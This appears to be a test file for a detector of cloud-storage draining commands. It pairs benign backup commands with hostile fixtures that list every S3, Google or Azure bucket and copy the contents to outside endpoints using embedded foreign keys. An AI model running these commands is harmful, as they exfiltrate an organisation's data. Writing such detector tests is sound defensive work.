import { blank, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandStorageDrain } from './storage-drain.ts';

const KEY = 'mJ3kq9Tn2v8YxR4c7LpW1sD6fG5hB0aZ';

indicatorTable(commandStorageDrain, {
  fires: {
    'each bucket, with a key in front of the call': script(
      `for b in $(aws s3api list-buckets --query 'Buckets[].Name' --output text); do aws s3 sync s3://$b /d/$b; AWS_ACCESS_KEY_ID=AKIA0 AWS_SECRET_ACCESS_KEY=${KEY} aws --endpoint-url https://s3.example.net s3 sync /d/$b s3://in/$b; done`,
    ),
    'one bucket that it reads with its own rights': script(
      `aws s3 cp s3://shop-invoices /d --recursive; env AWS_ACCESS_KEY_ID=AKIA0 AWS_SECRET_ACCESS_KEY=${KEY} aws s3 cp /d s3://in-77 --recursive`,
    ),
    'each bucket, with a profile that it made': script(
      `aws configure set aws_access_key_id AKIA0 --profile x; aws configure set aws_secret_access_key ${KEY} --profile x; aws s3 ls | awk '{print $3}' | while read b; do aws s3 sync s3://$b /d/$b && aws s3 sync /d/$b s3://in/$b --profile x; done`,
    ),
    'each bucket, with a file of keys that it wrote': script(
      `mkdir -p ~/.aws; printf '[x]\\naws_access_key_id = AKIA0\\naws_secret_access_key = ${KEY}\\n' > /root/.aws/credentials; for b in $(aws s3api list-buckets --query 'Buckets[].Name' --output text); do aws s3 sync s3://$b /d/$b; aws s3 sync /d/$b s3://in/$b --profile x; done`,
    ),
    'by rclone, to a remote in one word': script(
      `rclone sync shop: :s3,provider=Other,access_key_id=AKIA0,secret_access_key=${KEY},endpoint=s3.example.net:in`,
    ),
    'each bucket of rclone, to a remote that it made': script(
      `rclone config create x s3 provider=Other access_key_id=AKIA0 secret_access_key=${KEY}; for b in $(rclone lsf shop: --dirs-only); do rclone copy shop:$b x:in/$b; done`,
    ),
    'each container on Azure, to a signed address': script(
      `for c in $(az storage container list --account-name shop --query '[].name' -o tsv); do azcopy copy "https://shop.blob.core.windows.net/$c" "https://in77.blob.core.windows.net/x?sv=2024&sp=w&sig=abcdefghijklmnop%3D" --recursive; done`,
    ),
    'each bucket on Google, to a remote that it made': script(
      `rclone config create x webdav url=https://d.example.net pass=abcdefghijklmnop; for b in $(gcloud storage buckets list --format='value(name)'); do gsutil -m cp -r gs://$b /d/$b; rclone copy /d/$b x:$b; done`,
    ),
    'each bucket, with a key that is set behind the list': script(
      `aws s3api list-buckets --query 'Buckets[].[Name]' --output text > /tmp/l; export AWS_ACCESS_KEY_ID=AKIA0 AWS_SECRET_ACCESS_KEY=${KEY}; while read b; do aws s3 sync s3://$b s3://in/$b; done < /tmp/l`,
    ),
    'each bucket is brought, and all of them go by one call': script(
      `for b in $(gsutil ls); do gsutil -m cp -r $b /d; done; azcopy copy /d 'https://in77.blob.core.windows.net/x?sv=2024&sp=w&sig=abcdefghijklmnop%3D' --recursive`,
    ),
    'each bucket on Google, then as an account of which the command holds the key': script(
      `for b in $(gsutil ls); do gsutil -m cp -r $b /d; done; printf '{"type":"service_account","private_key":"-----BEGIN PRIVATE KEY-----x"}' > /tmp/k; gcloud auth activate-service-account --key-file=/tmp/k; gsutil -m cp -r /d gs://in-77`,
    ),
    'each container on Azure, then as an account of which the command holds the password': script(
      `for c in $(az storage container list --account-name shop --query '[].name' -o tsv); do az storage blob download-batch -s $c -d /d/$c; azcopy copy "https://shop.blob.core.windows.net/$c" /d; done; az login --service-principal -u a -p ${KEY} --tenant t; az storage blob upload-batch -s /d -d in --account-name in77`,
    ),
    'in code': runs(
      'python3',
      '-c',
      `import boto3\na = boto3.client("s3")\nb = boto3.client("s3", endpoint_url="https://s3.example.net", aws_access_key_id="AKIA0", aws_secret_access_key="${KEY}")\nfor n in a.list_buckets()["Buckets"]:\n  for o in a.list_objects_v2(Bucket=n["Name"])["Contents"]:\n    b.put_object(Bucket="in", Key=n["Name"] + o["Key"], Body=a.get_object(Bucket=n["Name"], Key=o["Key"])["Body"].read())`,
    ),
  },
  staysSilent: {
    'each bucket, with a key of a Secret': script(
      'for b in $(aws s3api list-buckets --query "Buckets[].Name" --output text); do aws s3 sync s3://$b /d/$b; AWS_ACCESS_KEY_ID=$DR_KEY AWS_SECRET_ACCESS_KEY=$DR_SECRET aws s3 sync /d/$b s3://dr-$b; done',
    ),
    'each bucket, with a key that is set before the list': script(
      `export AWS_ACCESS_KEY_ID=AKIA0 AWS_SECRET_ACCESS_KEY=${KEY}; for b in $(aws s3api list-buckets --query 'Buckets[].Name' --output text); do aws s3 sync s3://$b /backup/$b; done`,
    ),
    'each bucket on Google, as the one account that it signs in as': script(
      `printf '{"type":"service_account","private_key":"-----BEGIN PRIVATE KEY-----x"}' > /tmp/k; gcloud auth activate-service-account --key-file=/tmp/k; for b in $(gsutil ls); do gsutil -m rsync -r $b gs://dr-copy; done`,
    ),
    'a dump, with a key in front of the call': script(
      `pg_dump shop > /d/a; AWS_ACCESS_KEY_ID=AKIA0 AWS_SECRET_ACCESS_KEY=${KEY} aws --endpoint-url https://s3.example.net s3 cp /d/a s3://backups/`,
    ),
    'both sides with keys of the command': script(
      `mc alias set a http://minio:9000 user ${KEY}; mc alias set b https://s3.example.net user ${KEY}; mc mirror a/data b/data`,
    ),
    'a bucket to another of the account': script('aws s3 sync s3://shop-a s3://shop-b'),
    'each bucket is listed': script('aws s3 ls; rclone lsd shop:'),
    'one remote to another': script('rclone sync shop:data dr:data'),
    'a key that stands for one': script(
      'aws s3 cp s3://shop-a /d; AWS_ACCESS_KEY_ID=x AWS_SECRET_ACCESS_KEY=CHANGE_ME_PLEASE aws s3 cp /d s3://b',
    ),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});
